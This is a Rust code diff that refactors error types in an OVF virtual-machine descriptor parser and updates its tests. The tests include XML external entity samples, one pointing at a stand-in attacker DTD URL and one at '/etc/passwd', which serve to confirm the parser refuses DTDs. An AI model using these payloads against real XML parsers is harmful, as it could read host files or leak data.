@@ -377,7 +377,7 @@ fn digits(s: &str) -> Option<u64> {
 
 fn decode(xml: &[u8]) -> Result<Cow<'_, str>> {
     if xml.len() > MAX_DESCRIPTOR_BYTES {
-        return Err(Error::Unsupported(format!(
+        return Err(Error::unsupported(format!(
             "OVF descriptor is {} bytes; vmdisk reads descriptors of up to {} MiB",
             xml.len(),
             MAX_DESCRIPTOR_BYTES >> 20
@@ -393,17 +393,17 @@ fn decode(xml: &[u8]) -> Result<Cow<'_, str>> {
         Cow::Borrowed(utf8(xml)?)
     };
     match text.trim_start().chars().next() {
-        None => Err(Error::NotAnImage("the OVF descriptor is empty".into())),
+        None => Err(Error::not_an_image("the OVF descriptor is empty")),
         Some('<') => Ok(text),
-        Some(_) => Err(Error::NotAnImage(
-            "the OVF descriptor is not XML (it does not start with '<')".into(),
+        Some(_) => Err(Error::not_an_image(
+            "the OVF descriptor is not XML (it does not start with '<')",
         )),
     }
 }
 
 fn utf8(bytes: &[u8]) -> Result<&str> {
     std::str::from_utf8(bytes).map_err(|e| {
-        Error::NotAnImage(format!(
+        Error::not_an_image(format!(
             "the OVF descriptor is not UTF-8 text (invalid byte at offset {})",
             e.valid_up_to()
         ))
@@ -417,7 +417,7 @@ fn utf16(bytes: &[u8], unit: fn([u8; 2]) -> u16) -> Result<String> {
         .map(|c| unit([c[0], *c.get(1).unwrap_or(&0)]));
     char::decode_utf16(units)
         .collect::<std::result::Result<String, _>>()
-        .map_err(|_| Error::NotAnImage("the OVF descriptor is not valid UTF-16 text".into()))
+        .map_err(|_| Error::not_an_image("the OVF descriptor is not valid UTF-16 text"))
 }
 
 fn parse_xml(text: &str) -> Result<Document<'_>> {
@@ -441,12 +441,12 @@ fn xml_error(e: roxmltree::Error) -> Error {
     match e {
         X::DtdDetected => dtd_refused(),
         X::NodesLimitReached | X::AttributesLimitReached | X::NamespacesLimitReached => {
-            Error::Unsupported(format!(
+            Error::unsupported(format!(
                 "the OVF descriptor has more than {MAX_NODES} XML nodes, attributes or namespaces; \
                  vmdisk refuses descriptors that large"
             ))
         }
-        e => Error::Corrupt(format!(
+        e => Error::corrupt(format!(
             "the OVF descriptor is not well-formed XML: {}",
             one_line(&e.to_string())
         )),
@@ -454,10 +454,9 @@ fn xml_error(e: roxmltree::Error) -> Error {
 }
 
 fn dtd_refused() -> Error {
-    Error::Unsupported(
+    Error::unsupported(
         "the OVF descriptor contains a DTD (<!DOCTYPE>); vmdisk refuses DTDs so that no entity \
-         is expanded or reads host files"
-            .into(),
+         is expanded or reads host files",
     )
 }
 
@@ -466,23 +465,23 @@ fn envelope_family(root: Node) -> Result<&'static str> {
     let name = root.tag_name().name();
     let ns = root.tag_name().namespace();
     if name != "Envelope" {
-        return Err(Error::NotAnImage(format!(
+        return Err(Error::not_an_image(format!(
             "not an OVF descriptor: the root element is {}, not an OVF Envelope",
             quoted(name)
         )));
     }
     match ns.map(|ns| (ns, family(ns))) {
         Some((_, Some(family))) => Ok(family),
-        Some((ns, None)) if ns.starts_with(OVF_FUTURE_PREFIX) => Err(Error::Unsupported(format!(
+        Some((ns, None)) if ns.starts_with(OVF_FUTURE_PREFIX) => Err(Error::unsupported(format!(
             "OVF descriptor of an unknown OVF version (namespace {}); \
              vmdisk reads OVF 0.9, 1.x and 2.x",
             quoted(ns)
         ))),
-        Some((ns, None)) => Err(Error::NotAnImage(format!(
+        Some((ns, None)) => Err(Error::not_an_image(format!(
             "not an OVF descriptor: <Envelope> is in namespace {}, not an OVF envelope namespace",
             quoted(ns)
         ))),
-        None => Err(Error::NotAnImage(format!(
+        None => Err(Error::not_an_image(format!(
             "not an OVF descriptor: <Envelope> has no namespace (OVF uses {OVF_1} or {OVF_2})"
         ))),
     }
@@ -1465,6 +1464,7 @@ fn controller(item: &Item) -> Controller {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::error::ErrorKind;
 
     fn codes(env: &Envelope) -> Vec<&'static str> {
         env.problems.iter().map(|p| p.code).collect()
@@ -2605,7 +2605,7 @@ mod tests {
         );
         let err = parse(xml.as_bytes()).unwrap_err();
         assert!(
-            matches!(err, Error::Unsupported(ref m) if m.contains("DTD")),
+            matches!(err, Error { kind: ErrorKind::Unsupported, message: ref m } if m.contains("DTD")),
             "{err}"
         );
     }
@@ -2619,24 +2619,36 @@ mod tests {
 </Envelope>"#;
         let err = parse(xxe.as_bytes()).unwrap_err();
         assert!(
-            matches!(err, Error::Unsupported(ref m) if m.contains("DTD")),
+            matches!(err, Error { kind: ErrorKind::Unsupported, message: ref m } if m.contains("DTD")),
             "{err}"
         );
         // An external DTD subset without internal declarations is refused too.
         let ext = r#"<?xml version="1.0"?>
 <!DOCTYPE Envelope SYSTEM "http://attacker.example/evil.dtd">
 <Envelope xmlns="http://schemas.dmtf.org/ovf/envelope/1"/>"#;
-        assert!(matches!(parse(ext.as_bytes()), Err(Error::Unsupported(_))));
+        assert!(matches!(
+            parse(ext.as_bytes()),
+            Err(Error {
+                kind: ErrorKind::Unsupported,
+                ..
+            })
+        ));
         let param = "<!DOCTYPE r [<!ENTITY % p SYSTEM \"file:///etc/passwd\"> %p;]><r/>";
         assert!(matches!(
             parse(param.as_bytes()),
-            Err(Error::Unsupported(_))
+            Err(Error {
+                kind: ErrorKind::Unsupported,
+                ..
+            })
         ));
         // Without a DTD an entity reference is just malformed.
         let undeclared = envelope(r#"<VirtualSystem ovf:id="vm"><Info>&x;</Info></VirtualSystem>"#);
         assert!(matches!(
             parse(undeclared.as_bytes()),
-            Err(Error::Corrupt(_))
+            Err(Error {
+                kind: ErrorKind::Corrupt,
+                ..
+            })
         ));
     }
 
@@ -2644,31 +2656,95 @@ mod tests {
     fn not_an_envelope() {
         type Expect = fn(&Error) -> bool;
         let cases: [(&[u8], Expect); 9] = [
-            (b"", |e| matches!(e, Error::NotAnImage(_))),
-            (b"   \n  ", |e| matches!(e, Error::NotAnImage(_))),
+            (b"", |e| {
+                matches!(
+                    e,
+                    Error {
+                        kind: ErrorKind::NotAnImage,
+                        ..
+                    }
+                )
+            }),
+            (b"   \n  ", |e| {
+                matches!(
+                    e,
+                    Error {
+                        kind: ErrorKind::NotAnImage,
+                        ..
+                    }
+                )
+            }),
             (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", |e| {
-                matches!(e, Error::NotAnImage(_))
+                matches!(
+                    e,
+                    Error {
+                        kind: ErrorKind::NotAnImage,
+                        ..
+                    }
+                )
             }),
             (b"KDMV\x01\0\0\0 not xml", |e| {
-                matches!(e, Error::NotAnImage(_))
+                matches!(
+                    e,
+                    Error {
+                        kind: ErrorKind::NotAnImage,
+                        ..
+                    }
+                )
             }),
             (b"<html><body>hello</body></html>", |e| {
-                matches!(e, Error::NotAnImage(_))
+                matches!(
+                    e,
+                    Error {
+                        kind: ErrorKind::NotAnImage,
+                        ..
+                    }
+                )
             }),
             (b"<?xml version='1.0'?><Envelope/>", |e| {
-                matches!(e, Error::NotAnImage(_))
+                matches!(
+                    e,
+                    Error {
+                        kind: ErrorKind::NotAnImage,
+                        ..
+                    }
+                )
             }),
             (
                 b"<soap:Envelope xmlns:soap='http://www.w3.org/2003/05/soap-envelope'/>",
-                |e| matches!(e, Error::NotAnImage(_)),
+                |e| {
+                    matches!(
+                        e,
+                        Error {
+                            kind: ErrorKind::NotAnImage,
+                            ..
+                        }
+                    )
+                },
             ),
             (
                 b"<Envelope xmlns='http://schemas.dmtf.org/ovf/envelope/3'/>",
-                |e| matches!(e, Error::Unsupported(_)),
+                |e| {
+                    matches!(
+                        e,
+                        Error {
+                            kind: ErrorKind::Unsupported,
+                            ..
+                        }
+                    )
+                },
             ),
             (
                 b"<Envelope xmlns='http://schemas.dmtf.org/ovf/envelope/1'><References>",
-                |e| matches!(e, Error::Corrupt(_)),
+                |e| {
+                    matches!(
+                        e,
+                        Error {
+                            kind: ErrorKind::Corrupt,
+                            ..
+                        }
+                    )
+                },
             ),
         ];
         for (input, expected) in cases {
@@ -2687,11 +2763,13 @@ mod tests {
     #[test]
     fn size_and_node_limits() {
         let huge = vec![b' '; MAX_DESCRIPTOR_BYTES + 1];
-        assert!(matches!(parse(&huge), Err(Error::Unsupported(m)) if m.contains("MiB")));
+        assert!(
+            matches!(parse(&huge), Err(Error { kind: ErrorKind::Unsupported, message: m }) if m.contains("MiB"))
+        );
         let many: String = "<a/>".repeat(MAX_NODES as usize + 1);
         let err = parse(envelope(&many).as_bytes()).unwrap_err();
         assert!(
-            matches!(err, Error::Unsupported(ref m) if m.contains("nodes")),
+            matches!(err, Error { kind: ErrorKind::Unsupported, message: ref m } if m.contains("nodes")),
             "{err}"
         );
     }
@@ -2721,7 +2799,13 @@ mod tests {
         utf16be.extend(VBOX_1_0.encode_utf16().flat_map(u16::to_be_bytes));
         assert_eq!(parse(&utf16be).unwrap().systems[0].memory, Some(2 << 30));
         let latin1 = [VMWARE.as_bytes(), b"<!-- caf\xe9 -->"].concat();
-        assert!(matches!(parse(&latin1), Err(Error::NotAnImage(_))));
+        assert!(matches!(
+            parse(&latin1),
+            Err(Error {
+                kind: ErrorKind::NotAnImage,
+                ..
+            })
+        ));
     }
 
     /// xorshift64*: deterministic pseudo-random numbers for the mutation loop.
